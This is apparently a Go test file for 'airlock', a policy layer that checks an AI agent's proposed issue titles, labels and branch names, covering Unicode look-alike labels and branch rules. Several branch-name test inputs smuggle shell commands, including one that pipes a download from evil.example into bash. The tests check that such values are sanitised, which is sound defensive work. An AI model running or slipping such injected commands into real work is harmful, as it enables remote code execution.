package policy

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/agent-airlock/airlock/internal/safeoutput"
	"github.com/google/go-cmp/cmp"
)

func TestTitle(t *testing.T) {
	long := strings.Repeat("a", 300)
	for _, tt := range []struct{ prefix, title, want string }{
		{"", "t", "t"},
		{"[ai] ", "t", "[ai] t"},
		{"[ai] ", "[ai] t", "[ai] t"},
		{"[ai] ", "[ai]t", "[ai] [ai]t"},
		{"[ai] ", "[ai]", "[ai] [ai]"},
		{"[ai] ", "[ai]\u00a0t", "[ai] [ai]\u00a0t"},
		{"[ai] ", "[\u0430i] t", "[ai] [\u0430i] t"},
		{"[AI] ", "[ai] t", "[AI] [ai] t"},
		{"Fix ", "Fixed it", "Fix Fixed it"},
		{"Fix ", "Fix it", "Fix it"},
		{"x: ", "é", "x: é"},
		{"", long, long[:255] + "…"},
		{"[ai] ", long, "[ai] " + long[:250] + "…"},
		{"", strings.Repeat("é", 256), strings.Repeat("é", 256)},
		{"", strings.Repeat("é", 257), strings.Repeat("é", 255) + "…"},
		{"", strings.Repeat("😀", 128), strings.Repeat("😀", 128)},
		{"", strings.Repeat("😀", 129), strings.Repeat("😀", 127) + "…"},
		{"", strings.Repeat("a", 254) + " bc", strings.Repeat("a", 254) + "…"},
	} {
		var n notes
		got := n.title(tt.prefix, tt.title)
		if got != tt.want {
			t.Errorf("title(%q, %.20q…) = %q, want %q", tt.prefix, tt.title, got, tt.want)
		}
		if units := len(utf16.Encode([]rune(got))); units > 256 {
			t.Errorf("title(%q, %.20q…) has %d code units", tt.prefix, tt.title, units)
		}
		if cut := strings.HasSuffix(got, "…"); cut != (len(n) == 1) {
			t.Errorf("title(%q, %.20q…): cut %t, notes %v", tt.prefix, tt.title, cut, n)
		}
		if again := n.title(tt.prefix, got); again != got {
			t.Errorf("title(%q, %q) = %q: not idempotent", tt.prefix, got, again)
		}
	}
}

func TestLabels(t *testing.T) {
	many := make([]string, 150)
	for i := range many {
		many[i] = fmt.Sprintf("l%d", i)
	}
	for _, tt := range []struct {
		name  string
		kc    KindConfig
		asked []string
		want  []string
		rules []string // of the notes
	}{
		{"as asked", KindConfig{}, []string{"a", "b"}, []string{"a", "b"}, nil},
		{"duplicates", KindConfig{}, []string{"Bug", "bug", "BUG"}, []string{"Bug"}, nil},
		{"owner's added", KindConfig{Labels: []string{"ai", "BUG"}}, []string{"bug"}, []string{"bug", "ai"}, nil},
		{"owner's alone", KindConfig{Labels: []string{"ai"}}, nil, []string{"ai"}, nil},
		{"owner's need no permission", KindConfig{Labels: []string{"ai"}, AllowedLabels: []string{"bug"}}, []string{"bug", "ai", "x"}, []string{"bug", "ai"}, []string{RuleAllowedLabels}},
		{"none allowed", KindConfig{AllowedLabels: []string{}}, []string{"x"}, nil, []string{RuleAllowedLabels}},
		{"pattern", KindConfig{AllowedLabels: []string{"area/*"}}, []string{"area/UI", "x", "Area/"}, []string{"area/UI", "Area/"}, []string{RuleAllowedLabels}},
		{"blocked", KindConfig{BlockedLabels: []string{"~*"}}, []string{"~stage", "x"}, []string{"x"}, []string{RuleAllowedLabels}},
		{"Kelvin for an allowed k", KindConfig{AllowedLabels: []string{"k", "task"}}, []string{"\u212A", "tas\u212A", "K"}, []string{"K"}, []string{RuleAllowedLabels}},
		{"long s for an allowed s", KindConfig{AllowedLabels: []string{"s"}}, []string{"\u017F", "S"}, []string{"S"}, []string{RuleAllowedLabels}},
		{"dotted I for an allowed i", KindConfig{AllowedLabels: []string{"i*"}}, []string{"\u0130x", "\u0131x", "Ix"}, []string{"Ix"}, []string{RuleAllowedLabels}},
		{"a look-alike of a pattern", KindConfig{AllowedLabels: []string{"task-*"}}, []string{"tas\u212A-1", "Task-1"}, []string{"Task-1"}, []string{RuleAllowedLabels}},
		{"look-alikes of a blocked one", KindConfig{BlockedLabels: []string{"deploy*"}}, []string{"d\u0435ploy", "DEPL\u03bfY-now", "dep\u200bloy", "ｄeploy", "dépłoy", "déploy", "x"}, []string{"dépłoy", "x"}, []string{RuleAllowedLabels}},
		{"a look-alike of the owner's", KindConfig{Labels: []string{"task"}}, []string{"tas\u212A", "Task"}, []string{"Task"}, []string{RuleAllowedLabels}},
		{"over 100", KindConfig{}, many, many[:100], []string{RuleMaxLabels}},
		{"owner's keep their place", KindConfig{Labels: []string{"ai"}}, many, append(many[:99:99], "ai"), []string{RuleMaxLabels}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			asked := strings.Join(tt.asked, ",")
			got, notes, refused := finish(tt.kc, &safeoutput.CreateIssue{Title: "t", Labels: tt.asked})
			checkRefusal(t, refused, "", "")
			if diff := cmp.Diff(tt.want, got.(*safeoutput.CreateIssue).Labels); diff != "" {
				t.Errorf("labels (-want +got):\n%s", diff)
			}
			var rules []string
			for _, n := range notes {
				rules = append(rules, n.Rule)
			}
			if diff := cmp.Diff(tt.rules, rules); diff != "" {
				t.Errorf("notes (-want +got):\n%s", diff)
			}
			if strings.Join(tt.asked, ",") != asked {
				t.Error("the given item was changed")
			}
		})
	}
}

func TestAddLabels(t *testing.T) {
	many := func(n int) (labels []string) {
		for i := range n {
			labels = append(labels, fmt.Sprintf("area/%d", i))
		}
		return labels
	}
	for _, tt := range []struct {
		name  string
		kc    KindConfig
		asked []string
		want  []string
		deny  string
		notes string // their messages, or the refusal's
	}{
		{"three by default", KindConfig{}, []string{"a", "b", "c", "d"}, []string{"a", "b", "c"}, "", `left out "d": at most 3 labels an item`},
		{"configured", KindConfig{MaxLabels: 1}, []string{"a", "b"}, []string{"a"}, "", `left out "b": at most 1 label an item`},
		{"no limit", KindConfig{MaxLabels: -1}, []string{"a", "b", "c", "d"}, []string{"a", "b", "c", "d"}, "", ""},
		{"not allowed ones do not count", KindConfig{AllowedLabels: []string{"d"}}, []string{"a", "b", "c", "d"}, []string{"d"}, "", `left out "a", "b", "c"; allowed: d`},
		{"none left", KindConfig{AllowedLabels: []string{"x", "y"}, Labels: []string{"ai"}}, []string{"a", "b"}, nil, RuleAllowedLabels, `none of the labels "a", "b" is allowed; allowed: x, y`},
		{"none left, no limit", KindConfig{MaxLabels: -1, AllowedLabels: []string{"x"}, Labels: []string{"ai"}}, []string{"a"}, nil, RuleAllowedLabels, `none of the labels "a" is allowed; allowed: x`},
		{"of many that are allowed, the first are listed", KindConfig{AllowedLabels: many(51), BlockedLabels: many(60)}, []string{"a"}, nil, RuleAllowedLabels,
			`none of the labels "a" is allowed; allowed: ` + strings.Join(many(50), ", ") + " and 1 more, but not " + strings.Join(many(50), ", ") + " and 10 more"},
		{"only look-alikes", KindConfig{AllowedLabels: []string{"bug"}}, []string{"bu\u0261"}, nil, RuleAllowedLabels, "none of the labels \"bu\u0261\" is allowed (\"bu\u0261\" only looks like one that the configuration names); allowed: bug"},
		{"owner's are added", KindConfig{Labels: []string{"ai"}}, []string{"a", "b", "c"}, []string{"a", "b", "c", "ai"}, "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, notes, refused := finish(tt.kc, &safeoutput.AddIssueLabel{Labels: tt.asked, IssueNumber: 4})
			checkRefusal(t, refused, tt.deny, tt.notes)
			if refused != nil {
				return
			}
			if diff := cmp.Diff(&safeoutput.AddIssueLabel{Labels: tt.want, IssueNumber: 4}, got.(*safeoutput.AddIssueLabel)); diff != "" {
				t.Errorf("item (-want +got):\n%s", diff)
			}
			var said string
			for _, n := range notes {
				said += n.Message
			}
			if said != tt.notes {
				t.Errorf("notes %q, want %q", said, tt.notes)
			}
		})
	}
}

func TestMatchLabel(t *testing.T) {
	for _, tt := range []struct {
		pattern, label string
		want           bool
	}{
		{"bug", "Bug", true}, {"bug", "bugs", false}, {"*", "", true}, {"*", "x", true},
		{"a*", "a", true}, {"a*", "ba", false}, {"*a", "ba", true}, {"a*c", "abc", true}, {"a*c", "ac", true},
		{"ab*ba", "aba", false}, {"a*b*c", "a-b-b-c", true}, {"a*b*c", "a-c", false}, {"*[bot]", "x[bot]", true},
	} {
		if got := matchLabel(tt.pattern, tt.label); got != tt.want {
			t.Errorf("matchLabel(%q, %q) = %t", tt.pattern, tt.label, got)
		}
	}
}

func TestUpdateOperations(t *testing.T) {
	for _, tt := range []struct{ owner, asked, want string }{
		{"", "", ""}, {"", "replace", ""}, {"", "append", "append"}, {"append", "", "append"}, {"append", "replace", ""},
		{"replace", "prepend", "prepend"}, {"append", "replace-island", "replace-island"},
	} {
		kc := KindConfig{Update: UpdateSettings{Title: true, Body: true, Operation: tt.owner}}
		got, _, refused := finish(kc, &safeoutput.UpdateIssue{Body: ptr("b"), Operation: tt.asked})
		if refused != nil || got.(*safeoutput.UpdateIssue).Operation != tt.want {
			t.Errorf("%q, and the item says %q: %+v, %v; want %q", tt.owner, tt.asked, got, refused, tt.want)
		}
		if got, _, _ := finish(kc, &safeoutput.UpdateIssue{Title: ptr("t"), Operation: tt.asked}); got.(*safeoutput.UpdateIssue).Operation != "" {
			t.Errorf("without a body: %+v", got)
		}
	}
}

func TestUpdateFields(t *testing.T) {
	all := &safeoutput.UpdateIssue{Status: ptr("closed"), Title: ptr("t"), Body: ptr("b"), IssueNumber: 3}
	for _, tt := range []struct {
		allow UpdateSettings
		item  *safeoutput.UpdateIssue
		says  string
	}{
		{UpdateSettings{Status: true, Title: true, Body: true}, all, ""},
		{UpdateSettings{Status: true}, &safeoutput.UpdateIssue{Status: ptr("open")}, ""},
		{UpdateSettings{Status: true}, all, `'title', 'body' may not be changed (enabled: status); enable a field with "title:" below update-issue`},
		{UpdateSettings{}, &safeoutput.UpdateIssue{Body: ptr("b")}, "'body' may not be changed (no field is enabled)"},
	} {
		got, _, refused := finish(KindConfig{Update: tt.allow}, tt.item)
		if tt.says != "" {
			checkRefusal(t, refused, RuleFieldNotEnabled, tt.says)
			continue
		}
		checkRefusal(t, refused, "", "")
		if diff := cmp.Diff(tt.item, got.(*safeoutput.UpdateIssue)); diff != "" {
			t.Errorf("item (-want +got):\n%s", diff)
		}
	}
}

// TestOwnersSettingsAndTheItems asserts which value counts where the owner's setting and the item
// may both have one.
func TestOwnersSettingsAndTheItems(t *testing.T) {
	yes, no := true, false
	for _, tt := range []struct {
		name string
		kc   KindConfig
		item safeoutput.Item
		want safeoutput.Item
		note string
	}{
		{"category", KindConfig{Discussion: DiscussionSettings{Category: "ideas"}},
			&safeoutput.CreateDiscussion{Title: "t", Category: "general"}, &safeoutput.CreateDiscussion{Title: "t", Category: "ideas"}, RuleCategory},
		{"category left to the item", KindConfig{},
			&safeoutput.CreateDiscussion{Title: "t", Category: "general"}, &safeoutput.CreateDiscussion{Title: "t", Category: "general"}, ""},
		{"report's category", KindConfig{Report: ReportSettings{Category: "airlock"}},
			&safeoutput.CreateSecurityReport{File: "f"}, &safeoutput.CreateSecurityReport{File: "f", Category: "airlock"}, ""},
		{"side by default", KindConfig{}, &safeoutput.CreateReviewComment{Path: "p"}, &safeoutput.CreateReviewComment{Path: "p", Side: "RIGHT"}, ""},
		{"side configured", KindConfig{Review: ReviewSettings{Side: "LEFT"}}, &safeoutput.CreateReviewComment{}, &safeoutput.CreateReviewComment{Side: "LEFT"}, ""},
		{"side of the item", KindConfig{Review: ReviewSettings{Side: "LEFT"}}, &safeoutput.CreateReviewComment{Side: "RIGHT"}, &safeoutput.CreateReviewComment{Side: "RIGHT"}, ""},
		{"draft by default", KindConfig{}, &safeoutput.CreatePullRequest{Title: "t"}, &safeoutput.CreatePullRequest{Title: "t", Draft: &yes}, ""},
		{"draft of the item", KindConfig{}, &safeoutput.CreatePullRequest{Title: "t", Draft: &no}, &safeoutput.CreatePullRequest{Title: "t", Draft: &no}, ""},
		{"draft configured", KindConfig{Changes: ChangeSettings{Draft: &yes}}, &safeoutput.CreatePullRequest{Draft: &no}, &safeoutput.CreatePullRequest{Draft: &yes}, RuleDraft},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, notes, refused := finish(tt.kc, tt.item)
			checkRefusal(t, refused, "", "")
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("item (-want +got):\n%s", diff)
			}
			if (tt.note != "") != (len(notes) == 1) || tt.note != "" && notes[0].Rule != tt.note {
				t.Errorf("notes %v, want one of %q", notes, tt.note)
			}
		})
	}
}

func TestBranch(t *testing.T) {
	features := []string{"feature/*", "bot/**"}
	for _, tt := range []struct {
		name     string
		settings ChangeSettings
		asked    string
		want     string
		rule     string // of the note, or of the refusal where want is "denied"
	}{
		{"the item's", ChangeSettings{}, "fix", "airlock/fix", RuleBranch},
		{"the item's, as it is", ChangeSettings{}, "airlock/fix", "airlock/fix", ""},
		{"the prefix alone", ChangeSettings{}, "airlock/", "airlock/airlock-fac15733", RuleBranch},
		{"a command", ChangeSettings{}, "fix/$({curl,evil.example}|bash)", "airlock/fix/curl-evil.example-bash-bc94b322", RuleBranch},
		{"a command below the prefix", ChangeSettings{}, "airlock/$(id)", "airlock/id-0549ad88", RuleBranch},
		{"a command below the owner's prefix", ChangeSettings{BranchPrefix: "bot/"}, "bot/`id`", "bot/id-a080f16a", RuleBranch},
		{"a command on a list of all", ChangeSettings{AllowedBranches: []string{"**"}}, "a;b", "a-b-5719af18", RuleBranch},
		{"a release", ChangeSettings{}, "release/1.0", "airlock/release/1.0", RuleBranch},
		{"a release on a list of all", ChangeSettings{AllowedBranches: []string{"**"}}, "release/1.0", "airlock/release/1.0", RuleBranch},
		{"a release on the list", ChangeSettings{AllowedBranches: []string{"release/*"}}, "release/1.0", "release/1.0", ""},
		{"pages on a list of releases and of all", ChangeSettings{AllowedBranches: []string{"release/*", "**"}}, "gh-pages", "airlock/gh-pages", RuleBranch},
		{"pages on a list of names without a slash", ChangeSettings{AllowedBranches: []string{"*"}}, "gh-pages", "denied", RuleAllowedBranches},
		{"pages on the list", ChangeSettings{AllowedBranches: []string{"gh-pages"}}, "gh-pages", "gh-pages", ""},
		{"another bot's, by half of a prefix", ChangeSettings{BranchPrefix: "dep"}, "dependabot/x", "depdependabot/x", RuleBranch},
		{"the prefix of a release", ChangeSettings{BranchPrefix: "release/"}, "x", "release/x", RuleBranch},
		{"none", ChangeSettings{}, "", "", ""},
		{"configured", ChangeSettings{Branch: "bot/x"}, "", "bot/x", ""},
		{"configured, another asked for", ChangeSettings{Branch: "bot/x"}, "main", "bot/x", RuleBranch},
		{"configured, the same asked for", ChangeSettings{Branch: "bot/x"}, "bot/x", "bot/x", ""},
		{"configured, whatever the list and the prefix say", ChangeSettings{Branch: "x", BranchPrefix: "bot/", AllowedBranches: features}, "", "x", ""},
		{"prefix", ChangeSettings{BranchPrefix: "bot/"}, "fix", "bot/fix", RuleBranch},
		{"prefix there already", ChangeSettings{BranchPrefix: "bot/"}, "bot/fix", "bot/fix", ""},
		{"prefix without a name", ChangeSettings{BranchPrefix: "bot/"}, "", "", ""},
		{"on the list", ChangeSettings{AllowedBranches: features}, "feature/a", "feature/a", ""},
		{"on the list, deeper", ChangeSettings{AllowedBranches: features}, "bot/a/b", "bot/a/b", ""},
		{"on the list by its prefix", ChangeSettings{AllowedBranches: features, BranchPrefix: "bot/"}, "a", "bot/a", RuleBranch},
		{"not on the list", ChangeSettings{AllowedBranches: features}, "feature/a/b", "denied", RuleAllowedBranches},
		{"not on the list by case", ChangeSettings{AllowedBranches: features}, "Feature/a", "denied", RuleAllowedBranches},
		{"a list, and no name", ChangeSettings{AllowedBranches: features}, "", "denied", RuleAllowedBranches},
		{"an empty list", ChangeSettings{AllowedBranches: []string{}}, "a", "denied", RuleAllowedBranches},
		{"an invalid pattern", ChangeSettings{AllowedBranches: []string{"[a"}}, "[a", "denied", RuleAllowedBranches},
	} {
		t.Run(tt.name, func(t *testing.T) {
			item, notes, refused := finish(KindConfig{Changes: tt.settings}, &safeoutput.CreatePullRequest{Title: "t", Branch: tt.asked})
			got, rule := "denied", ""
			switch {
			case refused != nil:
				rule = refused.rule
			case len(notes) > 0:
				rule = notes[0].Rule
			}
			if refused == nil {
				got = item.(*safeoutput.CreatePullRequest).Branch
			}
			if got != tt.want || rule != tt.rule {
				t.Errorf("%q with rule %q, want %q with %q", got, rule, tt.want, tt.rule)
			}
		})
	}
	_, notes, _ := finish(KindConfig{Changes: ChangeSettings{AllowedBranches: []string{"**"}}}, &safeoutput.CreatePullRequest{Title: "t", Branch: "main"})
	want := `the branch "main" was asked for; its name is "airlock/main", because "main" is avoided: it is usually the name of a branch that people release or deploy from`
	if len(notes) != 1 || notes[0].Message != want {
		t.Errorf("notes %q, want %q", notes, want)
	}
}
